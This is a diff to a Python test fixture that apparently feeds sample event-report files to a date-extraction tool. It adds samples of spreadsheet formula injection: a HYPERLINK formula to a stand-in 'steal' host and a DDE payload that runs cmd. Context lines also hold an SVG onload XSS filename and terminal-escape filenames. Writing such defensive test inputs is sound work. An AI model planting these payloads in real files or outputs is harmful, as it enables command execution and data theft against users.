@@ -31,6 +31,9 @@ DOCUMENTS = {
                      "+1 more shelling was reported on 21 May 2016.\n"
                      "-- a strike hit the bridge on 22 May 2016.\n"
                      "@everyone the bridge was closed on 23 May 2016.\n"),
+    # A spreadsheet whose list separator is ";" starts a cell after each ";" and each line break.
+    "semicolons.txt": ('Troops left;=HYPERLINK("http://example.invalid/steal","x"); the base on 1 May 2016.\n'
+                       "Shelling went on for hours;\t\"@SUM(1+1)*cmd|' /C calc'!A0\" on 2 May 2016.\n"),
     "lines.txt": "The siege of the old town ended on 25 May 2016.\r\nAid entered on 26 May 2016.\r\n",
     f"\"><svg onload={PAYLOAD}>.txt": "Shelling resumed on 28 May 2016.\n",
     "\x1b]0;pwned\x07\x1b[2Jreport.txt": "The window title changed on 24 May 2016.\n",  # terminal escapes
